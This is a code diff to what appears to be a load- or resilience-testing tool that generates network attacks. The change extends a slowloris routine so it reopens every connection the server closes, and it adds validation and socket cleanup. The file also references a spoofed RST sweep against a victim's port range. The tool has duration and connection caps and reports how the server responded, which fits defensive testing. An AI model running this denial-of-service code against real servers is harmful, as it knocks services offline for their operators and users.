@@ -63,6 +63,7 @@ class Config:
     ports: tuple[int, int] = EPHEMERAL   # rst-sweep: the victim's port range
     connections: int = 50         # slowloris
     interval_s: float = 1.0       # slowloris: one header line per connection per interval
+    reopen: bool = False          # slowloris: open a new connection for each one the server closes
     seed: int = 1
 
     def check(self) -> None:
@@ -81,6 +82,8 @@ class Config:
             raise AttackError(f"duration_s must be in (0, {MAX_DURATION_S}], not {self.duration_s}")
         if not self.rate > 0:
             raise AttackError(f"rate must be positive, not {self.rate}")
+        if not self.interval_s > 0:
+            raise AttackError(f"interval_s must be positive, not {self.interval_s}")
         if not 1 <= self.connections <= 10_000:
             raise AttackError(f"connections must be 1..10000, not {self.connections}")
         lo, hi = self.ports
@@ -306,29 +309,42 @@ def rst_sweep(cfg: Config, raw: RawSocket, report: Report) -> None:
     report.extra["sweeps"] = i / (hi - lo + 1)
 
 
+def _slow_connect(cfg: Config, report: Report, outcome: dict[str, int]) -> socket.socket | None:
+    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+    s.settimeout(5)
+    try:
+        s.connect((cfg.vip, cfg.port))
+        s.sendall(b"GET /obj/1k HTTP/1.1\r\nHost: slowloris\r\n")
+    except OSError:
+        outcome["connect_failed"] += 1
+        s.close()
+        return None
+    report.sent += 1
+    outcome["opened"] += 1
+    s.setblocking(False)
+    return s
+
+
 def slowloris(cfg: Config, report: Report) -> None:
-    """Connections that never finish their head; what the server did with each is reported."""
+    """Connections that never finish their head (with `reopen`, one opened again for each the server
+    closes); what the server did with each is reported."""
     start = time.monotonic()
-    socks: list[socket.socket] = []
-    outcome = {"connect_failed": 0, "closed_by_server": 0, "reset_by_server": 0, "still_open": 0}
+    outcome = {"opened": 0, "connect_failed": 0, "closed_by_server": 0, "reset_by_server": 0, "still_open": 0}
     answers: dict[str, int] = {}
-    for _ in range(cfg.connections):
-        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
-        s.settimeout(5)
-        try:
-            s.connect((cfg.vip, cfg.port))
-            s.sendall(b"GET /obj/1k HTTP/1.1\r\nHost: slowloris\r\n")
-            report.sent += 1
-            s.setblocking(False)
-            socks.append(s)
-        except OSError:
-            outcome["connect_failed"] += 1
-            s.close()
-    report.extra["opened"] = len(socks)
-    live = list(socks)
+    live: list[socket.socket] = []
     line = 0
-    while live and report.sent < cfg.count and time.monotonic() - start < cfg.duration_s:
-        end = time.monotonic() + cfg.interval_s
+
+    def running() -> bool:
+        return report.sent < cfg.count and time.monotonic() - start < cfg.duration_s
+
+    while running():
+        want = cfg.connections - len(live) if (cfg.reopen or line == 0) else 0
+        for _ in range(want):
+            if (s := _slow_connect(cfg, report, outcome)) is not None:
+                live.append(s)
+        if not live:
+            break
+        end = min(time.monotonic() + cfg.interval_s, start + cfg.duration_s)
         while (left := end - time.monotonic()) > 0 and live:
             ready, _, _ = select.select(live, [], [], left)
             for s in ready:
@@ -337,6 +353,7 @@ def slowloris(cfg: Config, report: Report) -> None:
                 except ConnectionResetError:
                     outcome["reset_by_server"] += 1
                     live.remove(s)
+                    s.close()
                     continue
                 except BlockingIOError:
                     continue
@@ -346,6 +363,7 @@ def slowloris(cfg: Config, report: Report) -> None:
                     continue
                 outcome["closed_by_server"] += 1
                 live.remove(s)
+                s.close()
         line += 1
         for s in list(live):
             try:
@@ -353,10 +371,10 @@ def slowloris(cfg: Config, report: Report) -> None:
                 report.sent += 1
             except OSError:
                 report.send_errors += 1
-        print(f"[attack] slowloris: {len(live)} of {len(socks)} connections open, {report.sent} lines, "
-              f"{time.monotonic() - start:.0f} s", file=sys.stderr, flush=True)
+        print(f"[attack] slowloris: {len(live)} connections open, {outcome['opened']} opened, "
+              f"{report.sent} lines, {time.monotonic() - start:.0f} s", file=sys.stderr, flush=True)
     outcome["still_open"] = len(live)
-    for s in socks:
+    for s in live:
         s.close()
     report.extra.update(outcome)
     report.extra["answers"] = answers
@@ -392,13 +410,14 @@ def main(argv: list[str] | None = None) -> int:
     ap.add_argument("--ports", default=f"{EPHEMERAL[0]}-{EPHEMERAL[1]}", help="rst-sweep: LO-HI")
     ap.add_argument("--connections", type=int, default=Config.connections)
     ap.add_argument("--interval", type=float, default=Config.interval_s)
+    ap.add_argument("--reopen", action="store_true", help="slowloris: replace every connection the server closes")
     ap.add_argument("--seed", type=int, default=1)
     ap.add_argument("--json", type=Path, help="write the report here (else stdout)")
     a = ap.parse_args(argv)
     try:
         lo, hi = (int(x) for x in a.ports.split("-"))
         cfg = Config(a.kind, a.vip, a.port, a.count, a.duration, a.rate, a.spoof_net, a.victim, (lo, hi),
-                     a.connections, a.interval, a.seed)
+                     a.connections, a.interval, a.reopen, a.seed)
         report = run(cfg)
     except (AttackError, ValueError) as e:
         print(f"attack: {e}", file=sys.stderr)
